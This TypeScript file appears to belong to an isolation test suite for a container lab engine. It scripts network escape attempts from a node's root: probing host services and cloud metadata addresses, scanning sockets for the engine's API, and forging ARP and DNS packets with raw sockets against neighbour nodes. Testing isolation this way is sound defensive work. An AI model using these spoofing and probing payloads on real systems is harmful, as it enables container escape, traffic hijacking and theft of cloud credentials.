/** Attacks by the network: on the host, on what surrounds the node, on other nodes. */
import { networkInterfaces } from 'node:os'
import type { Attack, Attempt, Theme } from './attack.ts'
import {
  answer,
  metadata,
  neighbourName,
  neighbourPort,
  relayEngine,
  serveAroundNodes,
  serveInNode,
  serveOnHost,
} from './surroundings.ts'
import { besideNetwork, engineBridge, engineSocket, hostNetwork, inNeighboursStack } from './weaknesses.ts'
import { fromNode, type Place, type World } from './world.ts'

/** All that a node's root can do for a way out: addresses, default routes of both families, direct routes. */
const openRoutes = `
sysctl -qw net.ipv6.conf.eth0.accept_dad=0 net.ipv6.conf.eth0.disable_ipv6=0
own=$(ip -6 -o address show dev eth0 scope link | sed 's/.*inet6 \\([^/]*\\).*/\\1/')
[ -z "$GATEWAY" ] || ip route replace default via $GATEWAY
router=$(ping -6 -c 2 -W 1 -I eth0 ff02::1 2>/dev/null | sed -n 's/.*from \\(fe80[^%]*\\)%.*/\\1/p' | grep -vx "$own" | head -n 1)
ip -6 route replace default \${router:+via $router} dev eth0
for address in $DIRECT; do ip route replace $address dev eth0; done`

const ask = `
for address in $ADDRESSES; do
  [ "$(nc -w 2 $address $PORT </dev/null 2>&1)" = ${answer} ] && echo "ESCAPED $address" &
done
wait`

export const network = (world: World): Theme => {
  const onHost = world.once(serveOnHost)
  const around = world.once(() => serveAroundNodes(world.instance))
  const relay = world.once(() => relayEngine(world.instance, world.scratch('relay')))
  const neighbour = world.once(async () => {
    const place = await world.neighbour()
    await serveInNode(place)
    return place
  })
  const own = Object.values(networkInterfaces()).flatMap((each) => each ?? [])
  const addresses = (wanted: (one: (typeof own)[number]) => boolean) =>
    own.filter(wanted).map((one) => (one.scopeid ? `${one.address}%eth0` : one.address))

  const toHost = (name: string, what: string, targets: string[]): Attack => {
    const env = async (place: Place) => ({
      ADDRESSES: targets.join(' '),
      PORT: String((await onHost()).port),
      GATEWAY: place.gateway,
    })
    return {
      name,
      tries: `The node's root makes all the routes it can and connects to a service of the host on ${what}.`,
      why: "The lab engine lives in a network namespace that has no way to the host's.",
      without: hostNetwork.without,
      async control() {
        const place = await world.weak(hostNetwork)
        return place.shell(ask, { env: await env(place) })
      },
      async attempt() {
        const place = await world.real()
        return place.shell(`${openRoutes}\n${ask}`, { env: await env(place) })
      },
    }
  }

  const around_ = (name: string, what: string, targets: (place: Place) => string[]) =>
    fromNode(world, {
      name,
      tries: `The node's root makes all the routes it can and connects to ${what}.`,
      why: "Nothing from a lab's bridge gets into the lab engine's network namespace, and there is nowhere else to go.",
      weakness: engineBridge,
      run: async (place) =>
        place.shell(`${openRoutes}\n${ask}`, {
          env: {
            ADDRESSES: targets(place).join(' '),
            PORT: String((await around()).port),
            GATEWAY: place.gateway,
          },
        }),
    })

  /** Sends frames of its own making, and asks the neighbour what came of it. */
  const forged = (
    name: string,
    tries: string,
    prepare: (gateway: string) => string,
    frames: string,
    look: (gateway: string) => string,
  ) =>
    fromNode(world, {
      name,
      tries,
      why: 'Each session has a bridge of its own: frames do not leave it.',
      weakness: besideNetwork(neighbour),
      async run(place): Promise<Attempt> {
        const victim = await neighbour()
        await victim.shell(prepare(victim.gateway))
        const sent = await place.python(`${packets}\n${frames}`, {
          env: { VICTIM: victim.address, SPOOFED: victim.gateway },
        })
        const mac = /mac ([0-9a-f:]+)/.exec(sent.said)?.[1] ?? 'none'
        const seen = await victim.shell(look(victim.gateway), { env: { MAC: mac } })
        return { ...seen, said: `${sent.said}\n${seen.said}` }
      },
    })

  return {
    title: 'Network',
    attacks: [
      toHost(
        'services of the host, IPv4',
        'its own addresses',
        addresses((one) => one.family === 'IPv4' && !one.internal),
      ),
      toHost(
        'services of the host, IPv6',
        'its own addresses, also the link-local ones',
        addresses((one) => one.family === 'IPv6' && !one.internal),
      ),
      toHost("the host's loopback", '127.0.0.1 and ::1, where the server listens', ['127.0.0.1', '::1']),
      around_('metadata address, IPv4', 'the address at which clouds give machines their secrets', () =>
        metadata.slice(0, 1),
      ),
      around_('metadata address, IPv6', 'the IPv6 address at which clouds give machines their secrets', () =>
        metadata.slice(1),
      ),
      around_("the bridge's gateway", "a service in the lab engine's own network namespace", (place) => [
        place.gateway,
        '10.201.0.1',
      ]),
      fromNode(world, {
        name: 'the gateway from an inner container',
        tries: "Root of an inner container with NET_ADMIN and NET_RAW connects to the lab engine's network namespace.",
        why: 'What leaves an inner container leaves the node by the same bridge.',
        weakness: engineBridge,
        run: async (place) =>
          place.inContainer(
            '--network bridge --cap-add NET_ADMIN',
            `python3 -c "
import os, socket
try:
  print('ESCAPED' if socket.create_connection((os.environ['AT'], int(os.environ['PORT'])), 2).recv(9) else 0)
except OSError as error:
  print(error)"`,
            { env: { AT: place.gateway, PORT: String((await around()).port) } },
          ),
      }),
      fromNode(world, {
        name: "the lab engine's API",
        tries:
          "The node's root asks every socket that it finds, by path, by abstract name and by port, for its own container.",
        why: "The lab engine's socket is bound into no node and listens on no network.",
        weakness: engineSocket(async () => (await relay()).file),
        run: (place) =>
          place.shell(
            `
api() { curl -s --max-time 2 "$@/containers/$CONTAINER/json" | grep -q '"Id"' && echo "ESCAPED $*"; }
# What is bound over a file looks like one to find.
for socket in $(find / -path /proc -prune -o -path /golden -prune -o -type s -print 2>/dev/null; cut -d ' ' -f 5 /proc/self/mountinfo); do
  [ -S $socket ] && api --unix-socket $socket http://engine
done
for name in $(sed -n 's/.* @//p' /proc/net/unix | sort -u); do api --abstract-unix-socket "$name" http://engine; done
for port in 2375 2376 4243; do api http://$GATEWAY:$port; done`,
            { env: { CONTAINER: place.container, GATEWAY: place.gateway } },
          ),
      }),
      fromNode(world, {
        name: "a neighbour's service",
        tries: "The node's root routes to another node, by the gateway and directly, and connects to a service there.",
        why: 'Each session has a network of its own, and packets between them are dropped.',
        weakness: besideNetwork(neighbour),
        async run(place) {
          const { address } = await neighbour()
          const env = { ADDRESSES: address, PORT: String(neighbourPort), GATEWAY: place.gateway }
          const straight = await place.shell(`${openRoutes}\n${ask}`, { env })
          return straight.succeeded
            ? straight
            : place.shell(`${openRoutes}\n${ask}`, { env: { ...env, DIRECT: address } })
        },
      }),
      fromNode(world, {
        name: 'abstract sockets of a neighbour',
        tries: "The node's root connects to a Unix socket with an abstract name, which no mount hides.",
        why: 'Such names belong to a network namespace.',
        weakness: inNeighboursStack(neighbour),
        async run(place) {
          await neighbour()
          return place.python(`
peer = socket.socket(socket.AF_UNIX)
peer.connect('\\0${neighbourName}')
if peer.recv(9):
  escaped('connected')`)
        },
      }),
      forged(
        'forged ARP answers',
        "The node's root tells another node that the gateway's address is its own.",
        (gateway) => `ping -c 1 -W 1 ${gateway}; ip neigh show ${gateway}`,
        `
for _ in range(4):
  link.send(b'\\xff' * 6 + me + b'\\x08\\x06' + struct.pack('!HHBBH', 1, 0x800, 6, 4, 2) + me + spoofed + b'\\xff' * 6 + victim)
  time.sleep(0.6)`,
        (gateway) => `ip neigh show ${gateway} | grep $MAC && echo ESCAPED`,
      ),
      forged(
        'forged DNS answers',
        "The node's root sends another node an answer in the name of its name server.",
        () => 'rm -f /tmp/dns; (timeout 20 nc -u -l 5300 >/tmp/dns 2>/dev/null </dev/null &)',
        `
datagram = struct.pack('!HHHH', 53, 5300, 8 + 12, 0) + b'forged reply'
def packet(to):
  head = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(datagram), 7, 0, 64, 17, 0, spoofed, to)
  words = sum(struct.unpack('!10H', head))
  words = (words & 0xffff) + (words >> 16)
  return head[:10] + struct.pack('!H', ~(words + (words >> 16)) & 0xffff) + head[12:] + datagram
for _ in range(3):
  link.send(b'\\xff' * 6 + me + b'\\x08\\x00' + packet(victim))
  try:
    raw.sendto(packet(victim), (os.environ['VICTIM'], 0))
  except OSError as error:
    print(error)
  time.sleep(0.3)`,
        () => 'grep "forged reply" /tmp/dns && echo ESCAPED; pkill -x nc',
      ),
      fromNode(world, {
        name: 'IPv6 neighbours',
        tries:
          "The node's root asks all nodes of the link by multicast, and another node, which uses IPv6, by its link-local address.",
        why: 'Each session has a bridge of its own.',
        weakness: besideNetwork(neighbour),
        async run(place) {
          const victim = await neighbour()
          const { stdout } = await victim.node.exec(
            [
              'sh',
              '-c',
              `sysctl -qw net.ipv6.conf.eth0.accept_dad=0 net.ipv6.conf.eth0.disable_ipv6=0; ip -6 -o address show dev eth0 scope link`,
            ],
            { cwd: '/' },
          )
          const address = /fe80[0-9a-f:]*/.exec(stdout)?.[0]
          if (address === undefined) throw new Error(`the neighbour has no IPv6 address: ${stdout}`)
          return place.shell(
            `${openRoutes}
ping -6 -c 2 -W 1 -I eth0 ff02::1 | grep "from $VICTIM" && echo ESCAPED
ping -6 -c 1 -W 1 -I eth0 $VICTIM && echo ESCAPED`,
            { env: { VICTIM: address, GATEWAY: place.gateway } },
          )
        },
      }),
    ],
  }
}

/** What attackers with raw sockets begin with. */
const packets = `
link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
link.bind(('eth0', 0))
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
me = link.getsockname()[4]
print('mac', ':'.join('%02x' % byte for byte in me))
victim, spoofed = (socket.inet_aton(os.environ[name]) for name in ('VICTIM', 'SPOOFED'))`
